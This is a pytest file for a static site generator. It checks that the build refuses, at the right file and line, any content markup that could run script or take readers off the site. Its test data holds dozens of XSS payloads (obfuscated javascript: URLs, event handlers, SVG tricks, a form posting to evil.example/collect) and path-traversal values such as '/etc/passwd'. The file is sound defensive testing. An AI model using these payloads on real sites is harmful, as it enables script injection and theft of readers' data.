"""No code from content: every way a site's files could make a reader's browser run script or leave the
site is refused by the build at its file and line, and listed by `samizdat check` at the same place."""

from __future__ import annotations

import re
from dataclasses import dataclass

import pytest
from selectolax.lexbor import LexborHTMLParser

from samizdat.outputs.security import script_hash
from samizdat.theme import THEMES_DIR
from tests.conftest import MINIMAL_CONFIG
from tests.hostile import Sandbox, assert_refused, sandbox  # noqa: F401

HEAD = "---\ntitle: Home\n---\nHello.\n\n"  # the body's markup starts on line 6
PAGE = "content/en/index.md"
SITE_TEMPLATE = """{% extends "base.html" %}
{% block main %}
<h1>{{ page.title }}</h1>
{{ page.content }}
<p>MARKUP</p>
{% endblock %}
"""
ALLOW_EN = MINIMAL_CONFIG + '\n[security]\nallow_scripts = ["content/en/index.md"]\n'


@dataclass(frozen=True)
class Case:
    name: str
    file: str  # where the hostile markup is
    text: str
    line: int | None  # the line the error must name


def page(markup: str, line: int = 6) -> Case:
    return Case("", PAGE, HEAD + markup + "\n", line)


MARKDOWN_CASES = {
    "script": page("<script>alert(1)</script>"),
    "script across lines, upper case": page("Text.\n\n<SCRIPT\n>alert(1)</SCRIPT>", 8),
    "script from another host": page('<script src="https://evil.example/x.js"></script>'),
    "SVG script from a file": page('<svg><script href="/assets/tool.js"></script></svg>'),
    "SVG script, xlink": page('<svg><script xlink:href="/assets/tool.js"/></svg>'),
    "module script": page('<script type="module">import("https://evil.example/x.js")</script>'),
    "event handler in a block": page('<p onclick="steal()">Click</p>'),
    "event handler on the third line of a tag": page('<div\n  class="x"\n  onmouseover="steal()">y</div>', 8),
    "inline event handler": page('Some text <b onmouseenter="steal()">bold</b> more.'),
    "markdown link to javascript:": page("A [link](javascript:alert(1)) here."),
    "markdown image from data:text/html": page("![x](data:text/html,hi)"),
    "javascript: hidden by an entity": page('<a href="&#106;avascript:alert(1)">x</a>'),
    "javascript: split by a tab": page('<a href="java&#9;script:alert(1)">x</a>'),
    "vbscript:": page('<a href="vbscript:msgbox(1)">x</a>'),
    "data:text/html link": page('<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'),
    "meta refresh": page('<meta http-equiv="refresh" content="0; url=https://evil.example/">'),
    "meta set-cookie": page('<meta http-equiv="Set-Cookie" content="a=b">'),
    "base": page('<base href="https://evil.example/">'),
    "object": page('<object data="/assets/x.swf"></object>'),
    "embed": page('<embed src="/assets/x.swf">'),
    "applet": page('<applet code="X.class"></applet>'),
    "iframe srcdoc": page('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    "iframe javascript:": page('<iframe src="javascript:alert(1)"></iframe>'),
    "form posting elsewhere": page('<form action="https://evil.example/collect"><input name="q"></form>'),
    "button formaction": page('<form><button formaction="javascript:alert(1)">Go</button></form>'),
    "svg xlink:href": page('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'),
    "svg animation to javascript:": page('<svg><a><set attributeName="href" to="javascript:alert(1)"/>'
                                         '<text>x</text></a></svg>'),
    "noscript parsing trick": page('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
    "link ping": page('<a href="/en/" ping="https://evil.example/track">x</a>'),
    "template": page("<template><script>alert(1)</script></template>"),
    "another encoding": page('<meta charset="iso-2022-jp">'),
    "content-type with another encoding": page('<meta http-equiv="Content-Type" content="text/html; charset=utf-7">'),
    "referrer policy loosened": page('<meta name="referrer" content="unsafe-url">'),
    "dns prefetch of another host": page('<link rel="dns-prefetch" href="//reader-was-here.evil.example">'),
}
OTHER_CASES = {
    "site template": Case("", "templates/default.html",
                          SITE_TEMPLATE.replace("<p>MARKUP</p>", '<p onclick="steal()">x</p>'), 5),
    "site template script": Case("", "templates/default.html",
                                 SITE_TEMPLATE.replace("<p>MARKUP</p>", "<script>steal()</script>"), 5),
    "front matter through a site template": Case(
        "", PAGE, '---\ntitle: Home\nbanner: "<a href=\'javascript:steal()\'>x</a>"\n---\nHello.\n', 3),
    "data file through a site template": Case(
        "", "data/banner.yaml", 'title: Join us\nhtml: "<b>Join</b> <a href=\'javascript:steal()\'>x</a>"\n', 2),
    "HTML page in content/": Case("", "content/en/old.html",
                                  '---\ntitle: Old\n---\n<div class="old">\n<p onclick="steal()">x</p>\n</div>\n', 5),
    "HTML file in static/": Case("", "static/old.html", "<html><body>\n<p>Old page</p>\n<script>steal()</script>\n",
                                 3),
    "HTML file in assets/": Case("", "assets/embed/page.html", '<p>\n<a href="javascript:steal()">x</a>\n', 2),
    "XHTML script in an XML file": Case("", "static/data.xml", '<?xml version="1.0"?>\n<data>\n'
                                        '<script xmlns="http://www.w3.org/1999/xhtml">steal()</script>\n</data>\n', 3),
    "XSLT stylesheet in an XML file": Case("", "assets/feed.xml", '<?xml version="1.0"?>\n'
                                           '<?xml-stylesheet type="text/xsl" href="/assets/page.xsl"?>\n<feed/>\n', 2),
    "refresh in static HTML": Case("", "static/go.html", '<meta http-equiv="refresh" content="0;url=https://x.example">',
                                   1),
}
BANNER_TEMPLATE = SITE_TEMPLATE.replace("<p>MARKUP</p>", "{{ page.data.get('banner', '')|safe }}")


def case_files(case: Case) -> dict[str, str]:
    files = {case.file: case.text}
    if case.name == "front matter through a site template":
        files["templates/default.html"] = BANNER_TEMPLATE
    if case.name == "data file through a site template":
        files["templates/default.html"] = SITE_TEMPLATE.replace("<p>MARKUP</p>", "{{ data.banner.html|safe }}")
    return files


ALL_CASES = {name: Case(name, c.file, c.text, c.line) for name, c in {**MARKDOWN_CASES, **OTHER_CASES}.items()}


@pytest.mark.parametrize("case", ALL_CASES.values(), ids=ALL_CASES.keys())
def test_the_build_refuses_code_from_content_at_its_line(sandbox: Sandbox, capsys, case: Case) -> None:  # noqa: F811
    sandbox.write(case_files(case))
    outcome = sandbox.build(capsys)
    assert_refused(outcome, case.file, case.line)
    assert "hint:" in outcome.err
    assert not (sandbox.out / "en/index.html").exists()  # nothing was published
    sandbox.assert_untouched()


@pytest.mark.parametrize("case", ALL_CASES.values(), ids=ALL_CASES.keys())
def test_check_lists_the_same_problem_at_the_same_line(sandbox: Sandbox, capsys, case: Case) -> None:  # noqa: F811
    sandbox.write(case_files(case))
    outcome = sandbox.run(capsys, "check", sandbox.site)
    assert outcome.code == 1
    place = f"{case.file}:{case.line}" if case.line else case.file
    assert re.search(rf"{re.escape(place)}: error \[unsafe-markup\]: ", outcome.out), outcome.out
    sandbox.assert_untouched()


HARMLESS = {
    "links, images, spans and a table": page('<p align="center"><a href="https://www.instagram.com/p/x/">'
                                             '<b>x</b></a></p>\n\n'
                                             '<span style="color: red">red</span> &emsp;&emsp; '
                                             '<table border="0"><tr><td width="25%">x</td></tr></table>'),
    "script words in text and code": page("Never write `<script>` or `onclick=` or `javascript:` in a page.\n\n"
                                          "    <script>alert(1)</script>"),
    "escaped front matter": Case("", PAGE, '---\ntitle: "<script>alert(1)</script>"\n---\nHello.\n', None),
    "JSON-LD data": page('<script type="application/ld+json">{"@type": "Event"}</script>'),
    "mail, phone and own form": page('<a href="mailto:a@example.org">m</a> <a href="tel:+100">t</a> '
                                     '<form action="/en/"><input name="q"></form>'),
}


@pytest.mark.parametrize("case", HARMLESS.values(), ids=HARMLESS.keys())
def test_harmless_markup_builds_and_adds_no_script(sandbox: Sandbox, capsys, case: Case) -> None:  # noqa: F811
    sandbox.write({case.file: case.text})
    outcome = sandbox.build(capsys)
    assert outcome.code == 0, outcome.err
    html = (sandbox.out / "en/index.html").read_text(encoding="utf-8")
    # No meetings: the only script allowed is the theme's search script, by its hash (every page carries
    # the one site-wide policy, and the search page needs it).
    search = script_hash((THEMES_DIR / "default/static/search.js").read_text(encoding="utf-8").strip())
    allowed = re.search(r"script-src ([^;\"]*)", html)
    assert allowed is not None and allowed[1].split() == [f"'{search}'"]
    for node in LexborHTMLParser(html).css("script"):
        assert node.attributes.get("type") == "application/ld+json"
    sandbox.assert_untouched()


def test_the_opt_in_allows_exactly_the_listed_page(sandbox: Sandbox, capsys) -> None:  # noqa: F811
    script = "document.title = 'tool';"
    sandbox.write({PAGE: HEAD + f"<script>{script}</script>\n"}, config=ALLOW_EN)
    outcome = sandbox.build(capsys)
    assert outcome.code == 0, outcome.err
    digest = script_hash(script)
    assert f"'{digest}'" in (sandbox.out / "en/index.html").read_text(encoding="utf-8")
    assert f"'{digest}'" in (sandbox.out / "_headers").read_text(encoding="utf-8")

    # The same script on the Russian page, whose file is not listed: refused.
    sandbox.write({PAGE: HEAD + f"<script>{script}</script>\n",
                   "content/ru/index.md": HEAD + f"<script>{script}</script>\n"}, config=ALLOW_EN)
    assert_refused(sandbox.build(capsys), "content/ru/index.md", 6)
    sandbox.assert_untouched()


@pytest.mark.parametrize("markup, line", [
    ('<p onclick="x()">y</p>', 6),
    ('<a href="javascript:x()">y</a>', 6),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', 6),
    ('<script src="/assets/tool.js"></script>', 6),
])
def test_the_opt_in_allows_inline_scripts_and_nothing_else(sandbox: Sandbox, capsys, markup: str,  # noqa: F811
                                                           line: int) -> None:
    sandbox.write({PAGE: HEAD + markup + "\n"}, config=ALLOW_EN)
    assert_refused(sandbox.build(capsys), PAGE, line)


@pytest.mark.parametrize("entry", ["content/en/missing.md", "../home/secret.txt", "/etc/passwd", 3])
def test_the_opt_in_must_name_a_file_of_the_site(sandbox: Sandbox, capsys, entry: object) -> None:  # noqa: F811
    value = f'"{entry}"' if isinstance(entry, str) else str(entry)
    sandbox.write({}, config=MINIMAL_CONFIG + f"\n[security]\nallow_scripts = [{value}]\n")
    outcome = sandbox.build(capsys)
    assert_refused(outcome, "samizdat.toml")
    assert "security.allow_scripts" in outcome.err


def test_a_refused_page_is_refused_again_by_the_next_build(sandbox: Sandbox, capsys) -> None:  # noqa: F811
    """The render cache must not remember a page the build refused."""
    sandbox.write({PAGE: HEAD + "<script>alert(1)</script>\n"})
    assert_refused(sandbox.build(capsys), PAGE, 6)
    assert_refused(sandbox.build(capsys), PAGE, 6)
    sandbox.write({PAGE: HEAD + "No script.\n"})
    assert sandbox.build(capsys).code == 0


def test_the_opt_in_works_for_a_published_html_file_too(sandbox: Sandbox, capsys) -> None:  # noqa: F811
    script = "document.title = 'calculator';"
    tool = f"<!doctype html>\n<title>Tool</title>\n<script>{script}</script>\n"
    config = MINIMAL_CONFIG + '\n[security]\nallow_scripts = ["static/tool.html"]\n'
    sandbox.write({"static/tool.html": tool}, config=config)
    assert sandbox.build(capsys).code == 0
    assert f"'{script_hash(script)}'" in (sandbox.out / "_headers").read_text(encoding="utf-8")
    sandbox.write({"static/tool.html": tool, "static/copy.html": tool}, config=config)
    assert_refused(sandbox.build(capsys), "static/copy.html", 3)
    sandbox.assert_untouched()


def test_check_lists_every_problem_where_the_build_names_the_first(sandbox: Sandbox, capsys) -> None:  # noqa: F811
    sandbox.write({PAGE: HEAD + '<p onclick="x()">a</p>\n\n[b](javascript:y)\n',
                   "content/ru/index.md": HEAD + '<meta http-equiv="refresh" content="0;url=https://e.example/">\n',
                   "static/old.html": "<p>\n<base href='https://e.example/'>\n"})
    outcome = sandbox.run(capsys, "check", sandbox.site)
    found = re.findall(r"^(\S+): error \[unsafe-markup\]", outcome.out, re.M)
    places = [place.removeprefix(f"{sandbox.site}/") for place in found]
    assert sorted(places) == sorted([f"{PAGE}:6", f"{PAGE}:8", "content/ru/index.md:6", "static/old.html:2"])
    build = sandbox.build(capsys)
    assert build.code == 1 and "3 more; `samizdat check` lists them all" in build.err


def test_plain_xml_data_is_published_as_it_is(sandbox: Sandbox, capsys) -> None:  # noqa: F811
    search = ('<?xml version="1.0"?>\n<OpenSearchDescription xmlns="http://a9.com/-/spec/opensearch/1.1/">'
              "<ShortName>Site</ShortName></OpenSearchDescription>\n")
    sandbox.write({"static/opensearch.xml": search})
    assert sandbox.build(capsys).code == 0
    assert (sandbox.out / "opensearch.xml").read_text(encoding="utf-8") == search


@pytest.mark.parametrize("rel, text", [
    ("assets/map.svgz", "\x1f\x8b compressed"),
    ("static/utf16.html", "<p>x</p><script>steal()</script>".encode("utf-16")),
    ("static/jis.html", "<p>\x1b$B</p><a title=\"\x1b(B\"><img src=x onerror=steal()>"),
    ("static/broken.xml", "<data><script xmlns='http://www.w3.org/1999/xhtml'>steal()"),
    ("static/bomb.xml", '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aa">]><d>&a;</d>'),
])
def test_files_that_cannot_be_checked_are_refused(sandbox: Sandbox, capsys, rel: str, text: str | bytes) -> None:  # noqa: F811
    sandbox.write({rel: text})
    outcome = sandbox.build(capsys)
    assert_refused(outcome, rel)
    assert "hint:" in outcome.err
    sandbox.assert_untouched()


def test_each_problem_is_traced_to_its_own_file(sandbox: Sandbox, capsys) -> None:  # noqa: F811
    """The same rule broken in the page and in a site template: each finding names its own source."""
    # Only the English page uses the template (the others have a layout of their own), so a place
    # found for the template's markup cannot come from another page.
    plain = "---\ntitle: T\nlayout: plain\n---\nText.\n"
    sandbox.write({PAGE: HEAD + '<b onclick="md()">x</b>\n', "content/ru/index.md": plain, "content/ko/index.md": plain,
                   "templates/default.html": SITE_TEMPLATE.replace("<p>MARKUP</p>", '<p onclick="tpl()">y</p>'),
                   "templates/plain.html": '{% extends "base.html" %}{% block main %}{{ page.content }}{% endblock %}'})
    outcome = sandbox.run(capsys, "check", sandbox.site)
    found = {place.removeprefix(f"{sandbox.site}/")
             for place in re.findall(r"^(\S+): error \[unsafe-markup\]", outcome.out, re.M)}
    assert found == {f"{PAGE}:6", "templates/default.html:5"}


def test_a_site_template_without_the_policy_tag_still_gets_it(sandbox: Sandbox, capsys) -> None:  # noqa: F811
    base = ("<!doctype html>\n<html><head>\n<title>{{ page.title }}</title>\n"
            "</head><body>{% block main %}{% endblock %}</body></html>\n")
    loose = base.replace("<title>", '<meta http-equiv="content-security-policy" content="script-src *">\n<title>')
    for template in (base, loose):
        sandbox.write({"templates/base.html": template})
        assert sandbox.build(capsys).code == 0
        html = (sandbox.out / "en/index.html").read_text(encoding="utf-8")
        head = LexborHTMLParser(html).head
        assert head is not None
        policies = [node.attributes.get("content") for node in head.css("meta[http-equiv]")]
        assert len(policies) == 1 and str(policies[0]).startswith("default-src 'none';"), policies
        assert "script-src *" not in html and "<title>Home</title>" in html


def test_a_page_of_thousands_of_broken_rules_is_read_once_and_each_named(sandbox: Sandbox, capsys,  # noqa: F811
                                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    """A stranger's page of 6,000 `onclick`s: each finding read the page's Markdown again for its markup and
    scanned it, so the build took 62 s to refuse it (twenty thousand: twelve minutes, and `check` and the
    dev server as long). The page's markup is now read and scanned once; the rule is still refused at its
    line and listed by `check`."""
    import samizdat.outputs.page_safety as page_safety

    reads, parses = [], []
    real_pieces, real_parser = page_safety.html_pieces, page_safety.LexborHTMLParser

    def counted_pieces(body: str) -> list[tuple[int, str]]:
        reads.append(len(body))
        return real_pieces(body)

    def counted_parser(markup: str) -> LexborHTMLParser:
        parses.append(len(markup))
        return real_parser(markup)

    monkeypatch.setattr(page_safety, "html_pieces", counted_pieces)
    monkeypatch.setattr(page_safety, "LexborHTMLParser", counted_parser)
    pieces = 300
    sandbox.write({PAGE: HEAD + "\n\n".join(f'<p onclick="step{n}()">{n}</p>' for n in range(pieces)) + "\n"})
    outcome = sandbox.build(capsys)
    assert_refused(outcome, PAGE, 6)
    assert f"(and {pieces - 1} more; `samizdat check` lists them all)" in outcome.err
    assert len(reads) == 1 and len(parses) == pieces  # once each (it was once a finding: 300 and 300)
    reads.clear()
    listed = sandbox.run(capsys, "check", sandbox.site)  # the same rule broken the same way is one finding
    assert listed.code == 1
    assert len(re.findall(rf"{re.escape(PAGE)}:6: error \[unsafe-markup\]: <p onclick=…>", listed.out)) == 1
    assert len(reads) == 1


def test_a_template_on_every_page_is_traced_to_its_line_once(sandbox: Sandbox, capsys,  # noqa: F811
                                                            monkeypatch: pytest.MonkeyPatch) -> None:
    """Markup a site template puts on every page broke the rule on each page, and each page's finding read
    the data files and templates again to find its line: the template is now read once a build."""
    import samizdat.outputs.page_safety as page_safety

    reads: list[str] = []
    real_read = page_safety._read

    def counted(path):  # type: ignore[no-untyped-def]
        reads.append(path.name)
        return real_read(path)

    monkeypatch.setattr(page_safety, "_read", counted)
    pages = {f"content/en/page-{n}.md": f"---\ntitle: Page {n}\n---\nText {n}.\n" for n in range(30)}
    sandbox.write({**pages, "templates/default.html": SITE_TEMPLATE.replace("<p>MARKUP</p>",
                                                                            '<p onclick="steal()">x</p>')})
    outcome = sandbox.build(capsys)
    assert_refused(outcome, "templates/default.html", 5)
    assert "(and 3" in outcome.err  # every page of every language broke it: each one a finding
    assert reads.count("default.html") == 1, reads
